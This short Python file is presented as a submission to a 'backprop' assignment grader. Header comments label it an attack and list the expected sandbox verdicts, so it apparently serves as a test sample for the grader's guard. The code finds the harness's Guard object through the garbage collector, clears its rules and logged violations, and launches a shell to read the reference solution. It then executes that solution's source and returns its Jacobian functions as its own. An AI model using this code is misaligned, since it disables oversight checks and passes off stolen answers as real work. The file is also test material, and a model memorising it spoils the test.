# mvcalc assignment: backprop
# attack: empty the interpreter's audit hooks through ctypes (PySys_AuditHook list) and import _posixsubprocess
# verdict: call C code|start another program|FileNotFoundError
# verdict without the audit hook: FileNotFoundError
import os
import sys

import numpy as np


def steal(text):
    """Run the reference solution's source and hand back its functions."""
    found = {}
    exec(compile(text, "stolen", "exec"), found)
    return found


import gc


def attack():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Guard":
            obj.WHAT = {}
            obj.UNAUDITED = frozenset()
            obj.violations.clear()
    import _posixsubprocess  # noqa: F401
    import subprocess
    return steal(subprocess.run(["/bin/sh", "-c", "cat @@REFERENCE@@"], capture_output=True, text=True,
                                check=True).stdout)


def J_b3(x, y, params):
    return attack()["J_b3"](x, y, params)


def J_b2(x, y, params):
    return attack()["J_b2"](x, y, params)


def J_W1(x, y, params):
    return attack()["J_W1"](x, y, params)


def J_b1(x, y, params):
    return attack()["J_b1"](x, y, params)
